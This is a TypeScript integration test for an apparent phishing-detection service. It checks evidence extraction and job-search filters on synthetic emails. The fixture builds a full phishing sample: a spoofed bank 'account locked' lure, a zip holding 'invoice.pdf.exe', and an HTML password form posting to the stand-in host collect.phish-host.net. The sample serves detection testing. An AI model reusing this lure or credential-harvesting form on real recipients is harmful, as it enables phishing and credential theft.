/**
 * Issue 16, evidence and search, end to end on the real servers: the gateway (PostgreSQL, Redis,
 * RabbitMQ) takes raw messages, an orchestrator on the same servers runs them with in-process
 * analyzers, and the stored job carries the evidence; GET /api/v1/analyze finds jobs by each filter.
 */

import {
  buildOrchestrator,
  createConfigSource,
  type Orchestrator,
} from '@trawl/analyzer-orchestrator';
import type { AnalyzerAnswerInput, Email, Job } from '@trawl/contracts';
import { waitFor } from '@trawl/platform/testing';
import { createInProcessInvoker } from '@trawl/plugin-client';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { silent, snapshot, wf } from '../../services/analyzer-orchestrator/test/unit/helpers.ts';
import {
  bearer,
  type Gateway,
  login,
  type RealPlatform,
  seedUsers,
  startGateway,
} from '../../services/api-gateway/test/helpers/harness.ts';
import { realPlatform } from '../../services/api-gateway/test/helpers/real-platform.ts';

/** A zip of empty stored entries (local headers and the central directory: what the sniffer reads). */
function zipOf(names: string[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const n of names) {
    const name = Buffer.from(n);
    const lh = Buffer.alloc(30);
    lh.writeUInt32LE(0x04034b50, 0);
    lh.writeUInt16LE(20, 4);
    lh.writeUInt16LE(name.length, 26);
    const ch = Buffer.alloc(46);
    ch.writeUInt32LE(0x02014b50, 0);
    ch.writeUInt16LE(20, 4);
    ch.writeUInt16LE(20, 6);
    ch.writeUInt16LE(name.length, 28);
    ch.writeUInt32LE(offset, 42);
    locals.push(lh, name);
    centrals.push(ch, name);
    offset += lh.length + name.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(names.length, 8);
  end.writeUInt16LE(names.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

const ZIP = zipOf(['invoice.pdf.exe', 'readme.txt']);
const FORM_HTML =
  '<html><body><form action="https://collect.phish-host.net/post"><input type="password" name="p"></form></body></html>';

function rawMessage(o: { from: string; to: string; subject: string; id: string }): string {
  return [
    'Received: from mail.sender-host.example (mail.sender-host.example [203.0.113.9])',
    '\tby mx.corp.example (Postfix) with ESMTPS id 4AB; Tue, 03 Nov 2026 10:00:01 +0000',
    'Received: from [10.0.0.5] (unknown [10.0.0.5]) by mail.sender-host.example; Tue, 03 Nov 2026 09:59:58 +0000',
    'Authentication-Results: mx.corp.example; spf=fail smtp.mailfrom=sender-host.example;',
    ' dkim=none; dmarc=fail header.from=bank.example',
    `From: "Bank Security" <${o.from}>`,
    `To: ${o.to}`,
    'Reply-To: collector@drop-box.example',
    'Return-Path: <bounce@sender-host.example>',
    `Subject: ${o.subject}`,
    'Date: Tue, 03 Nov 2026 10:00:00 +0000',
    `Message-ID: <${o.id}@sender-host.example>`,
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary="b1"',
    '',
    '--b1',
    'Content-Type: multipart/alternative; boundary="b2"',
    '',
    '--b2',
    'Content-Type: text/plain; charset=utf-8',
    '',
    'Your account is locked. Verify at https://evil-login.example/verify?u=1 now.',
    '--b2',
    'Content-Type: text/html; charset=utf-8',
    '',
    '<p>Your account is locked. <a href="https://t.co/AbC123">Verify your account</a></p>',
    '--b2--',
    '--b1',
    'Content-Type: application/zip; name="docs.zip"',
    'Content-Disposition: attachment; filename="docs.zip"',
    'Content-Transfer-Encoding: base64',
    '',
    ZIP.toString('base64'),
    '--b1',
    'Content-Type: text/html; name="invoice.html"',
    'Content-Disposition: attachment; filename="invoice.html"',
    'Content-Transfer-Encoding: base64',
    '',
    Buffer.from(FORM_HTML).toString('base64'),
    '--b1--',
    '',
  ].join('\r\n');
}

/** Phishing when the subject says so; indicators about the link, the attachment, DMARC. */
function analyzer(id: string) {
  return (e: Email): AnalyzerAnswerInput => {
    const phishing = e.headers.subject.toLowerCase().includes('locked');
    if (!phishing) return { is_phishing: false, confidence: 0.95, indicators: [] };
    return id === 'headers'
      ? {
          is_phishing: true,
          confidence: 0.9,
          indicators: [
            { type: 'auth_failure', value: 'DMARC fail', confidence: 0.8 },
            { type: 'reply_to_mismatch', value: 'replies go elsewhere', confidence: 0.6 },
          ],
        }
      : {
          is_phishing: true,
          confidence: 0.95,
          indicators: [
            { type: 'url_shortener', value: 'shortened link via t.co', confidence: 0.5 },
            { type: 'suspicious_url', value: 'evil-login.example asks to verify', confidence: 0.7 },
            {
              type: 'archive_with_executable',
              value: 'docs.zip holds an executable',
              confidence: 0.9,
            },
          ],
        };
  };
}

describe('evidence and job search on PostgreSQL, Redis and RabbitMQ', () => {
  let p: RealPlatform;
  let gw: Gateway;
  let orch: Orchestrator;
  let analyst = '';
  let viewer = '';
  const jobs: Record<string, string> = {};

  async function submit(name: string, o: Parameters<typeof rawMessage>[0]): Promise<void> {
    const r = await gw.app.inject({
      method: 'POST',
      url: '/api/v1/analyze/raw',
      headers: { ...bearer(analyst), 'content-type': 'message/rfc822' },
      payload: rawMessage(o),
    });
    expect(r.statusCode).toBe(200);
    jobs[name] = r.json().job_id;
  }

  async function get(id: string): Promise<Job> {
    const r = await gw.app.inject({
      method: 'GET',
      url: `/api/v1/analyze/${id}`,
      headers: bearer(viewer),
    });
    return r.json();
  }

  async function search(query: string): Promise<{ status: number; ids: string[]; body: any }> {
    const r = await gw.app.inject({
      method: 'GET',
      url: `/api/v1/analyze?${query}`,
      headers: bearer(viewer),
    });
    const body = r.json();
    return {
      status: r.statusCode,
      ids: r.statusCode === 200 ? body.items.map((j: Job) => j.job_id) : [],
      body,
    };
  }

  beforeAll(async () => {
    p = await realPlatform();
    await seedUsers(p.store);
    gw = await startGateway(p);
    analyst = (await login(gw.app, 'analyst')).access_token;
    viewer = (await login(gw.app, 'viewer')).access_token;
    orch = buildOrchestrator({
      broker: p.broker,
      store: p.store,
      cache: p.cache,
      invoker: createInProcessInvoker({
        analyzers: { headers: analyzer('headers'), urls: analyzer('urls') },
      }),
      config: createConfigSource(
        snapshot('e1', [
          wf({
            id: 'default',
            name: 'Default',
            stages: [{ name: 'triage', analyzers: [{ id: 'headers' }, { id: 'urls' }] }],
          }),
          wf({
            id: 'quick',
            name: 'Quick',
            stages: [{ name: 'only', analyzers: [{ id: 'urls' }] }],
          }),
        ]),
      ),
      topology: p.topology,
      logger: silent,
      options: { prefetch: 4, reaperIntervalMs: 0 },
    });
    await orch.start();
    await submit('lure', {
      from: 'security@bank-alerts.example',
      to: 'alice@corp.example',
      subject: 'Your account is locked',
      id: 'm1',
    });
    await new Promise((r) => setTimeout(r, 20));
    await submit('newsletter', {
      from: 'news@shop.example',
      to: 'bob@corp.example',
      subject: 'Weekly deals inside',
      id: 'm2',
    });
    await new Promise((r) => setTimeout(r, 20));
    await submit('lure2', {
      from: 'it@bank-alerts.example',
      to: 'bob@corp.example',
      subject: 'Mailbox locked: act now',
      id: 'm3',
    });
    for (const id of Object.values(jobs)) {
      await waitFor(async () => (await get(id)).status === 'completed', 20_000);
    }
  });

  afterAll(async () => {
    await orch?.stop(1000);
    await gw?.close();
    await p?.cleanup();
  });

  it('stores the evidence of a message with URLs, attachments and auth headers', async () => {
    const job = await get(jobs.lure as string);
    const ev = job.result?.evidence;
    expect(ev).toBeDefined();
    if (!ev) return;
    expect(ev.message).toMatchObject({
      subject: 'Your account is locked',
      from: { address: 'security@bank-alerts.example', display_name: 'Bank Security' },
      reply_to: ['collector@drop-box.example'],
      return_path: 'bounce@sender-host.example',
      to: ['alice@corp.example'],
    });
    expect(ev.received.sending_ip).toBe('203.0.113.9');
    expect(ev.received.hops[0]).toMatchObject({
      from: 'mail.sender-host.example',
      by: 'mx.corp.example',
    });
    expect(ev.auth).toMatchObject({
      spf: 'fail',
      dkim: 'none',
      dmarc: 'fail',
      dmarc_from: 'bank.example',
    });
    const byHost = Object.fromEntries(ev.urls.map((u) => [u.host, u]));
    expect(byHost['t.co']).toMatchObject({
      found_in: 'html',
      text: 'Verify your account',
      registrable_domain: 't.co',
    });
    expect(byHost['evil-login.example']).toMatchObject({ found_in: 'text' });
    expect(byHost['collect.phish-host.net']).toMatchObject({
      found_in: 'attachment',
      attachment: 1,
      registrable_domain: 'phish-host.net',
    });
    const [zip, html] = ev.attachments;
    expect(zip).toMatchObject({
      filename: 'docs.zip',
      declared_type: 'application/zip',
      kind: 'archive',
      size: ZIP.length,
      contents: ['invoice.pdf.exe', 'readme.txt'],
    });
    expect(zip?.sha256).toMatch(/^[a-f0-9]{64}$/);
    expect(html).toMatchObject({ filename: 'invoice.html', kind: 'html' });
    expect(html?.findings).toEqual(expect.arrayContaining(['html_form', 'html_password_input']));
    // each indicator names what it is about
    const about = Object.fromEntries(job.result!.indicators.map((i) => [i.type, i.evidence]));
    expect(about.auth_failure).toEqual({ kind: 'auth', name: 'dmarc' });
    expect(about.reply_to_mismatch).toEqual({ kind: 'header', name: 'reply_to' });
    expect(ev.urls[about.url_shortener?.index as number]?.host).toBe('t.co');
    expect(ev.urls[about.suspicious_url?.index as number]?.host).toBe('evil-login.example');
    expect(about.archive_with_executable).toEqual({ kind: 'attachment', index: 0 });
  });

  it('finds jobs by each filter, newest first', async () => {
    const lure = jobs.lure as string;
    const newsletter = jobs.newsletter as string;
    const lure2 = jobs.lure2 as string;
    const sha = (await get(lure)).result?.evidence?.attachments[0]?.sha256 as string;
    const emailId = (await get(newsletter)).email_id;
    const cases: [string, string[]][] = [
      ['status=completed', [lure2, newsletter, lure]],
      ['is_phishing=true', [lure2, lure]],
      ['is_phishing=false', [newsletter]],
      ['threat_level=none', [newsletter]],
      ['action=allow', [newsletter]],
      ['sender=security@bank-alerts.example', [lure]],
      ['sender=bank-alerts.example', [lure2, lure]],
      ['sender=BANK-ALERTS.example', [lure2, lure]],
      ['recipient=bob@corp.example', [lure2, newsletter]],
      ['recipient=corp.example', [lure2, newsletter, lure]],
      ['subject=locked', [lure2, lure]],
      ['subject=account%20locked', [lure]],
      ['url_domain=t.co', [lure2, newsletter, lure]],
      ['url_domain=phish-host.net', [lure2, newsletter, lure]],
      ['url_domain=nowhere.example', []],
      [`sha256=${sha.toUpperCase()}`, [lure2, newsletter, lure]],
      ['indicator=url_shortener', [lure2, lure]],
      ['indicator=url_shortener&sender=it@bank-alerts.example', [lure2]],
      ['workflow=default', [lure2, newsletter, lure]],
      ['workflow=quick', []],
      ['submitter=analyst', [lure2, newsletter, lure]],
      ['submitter=admin', []],
      [`email_id=${emailId}`, [newsletter]],
      ['since=2000-01-01&until=2999-01-01&is_phishing=true', [lure2, lure]],
      ['since=2999-01-01', []],
    ];
    for (const [q, want] of cases) {
      const r = await search(q);
      expect({ q, status: r.status, ids: r.ids }).toEqual({ q, status: 200, ids: want });
    }
    const created = (await get(newsletter)).created_at;
    expect((await search(`until=${encodeURIComponent(created)}`)).ids).toEqual([lure]);
    expect((await search(`since=${encodeURIComponent(created)}`)).ids).toEqual([lure2, newsletter]);
    // a listed job leaves its evidence out; one job's read has it
    const listed = (await search('is_phishing=true')).body.items[0];
    expect(listed.result.is_phishing).toBe(true);
    expect(listed.result.evidence).toBeUndefined();
  });

  it('answers 400 naming an unknown or malformed filter', async () => {
    const cases: [string, string[]][] = [
      ['verdict=phishing', ['/query/verdict']],
      ['is_phishing=yes', ['/query/is_phishing']],
      ['threat_level=extreme', ['/query/threat_level']],
      ['action=delete', ['/query/action']],
      ['sender=not%20an%20address@', ['/query/sender']],
      ['recipient=@@', ['/query/recipient']],
      ['url_domain=http://x', ['/query/url_domain']],
      ['sha256=abc', ['/query/sha256']],
      ['indicator=Bad%20Type', ['/query/indicator']],
      ['since=yesterday', ['/query/since']],
      ['since=2026-02-01&until=2026-01-01', ['/query/until']],
      ['subject=%21', ['/query/subject']],
      ['limit=0', ['/query/limit']],
      ['status=done&foo=1', ['/query/foo', '/query/status']],
      ['sender=a@b.example&sender=c@d.example', ['/query/sender']],
      ['cursor=forged', ['/query/cursor']],
    ];
    for (const [q, paths] of cases) {
      const r = await search(q);
      expect({ q, status: r.status, code: r.body.code }).toEqual({
        q,
        status: 400,
        code: 'TRAWL_ERR_GATEWAY_BAD_QUERY',
      });
      expect(r.body.errors.map((e: { path: string }) => e.path).sort()).toEqual(paths);
      for (const pth of paths) expect(r.body.detail).toContain(pth.replace('/query/', ''));
    }
  });

  it('pages a filtered search by cursor: the next page keeps the filters', async () => {
    const seen: string[] = [];
    let cursor: string | null = null;
    do {
      const r = await search(
        `recipient=corp.example&limit=1${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`,
      );
      expect(r.status).toBe(200);
      seen.push(...r.ids);
      cursor = r.body.next_cursor;
    } while (cursor && seen.length < 10);
    expect(seen).toEqual([jobs.lure2, jobs.newsletter, jobs.lure]);
    const p1 = await search('is_phishing=true&limit=1');
    const p2 = await search(
      `is_phishing=true&limit=1&cursor=${encodeURIComponent(p1.body.next_cursor)}`,
    );
    expect([...p1.ids, ...p2.ids]).toEqual([jobs.lure2, jobs.lure]);
    expect(p2.body.next_cursor).toBeNull();
  });
});
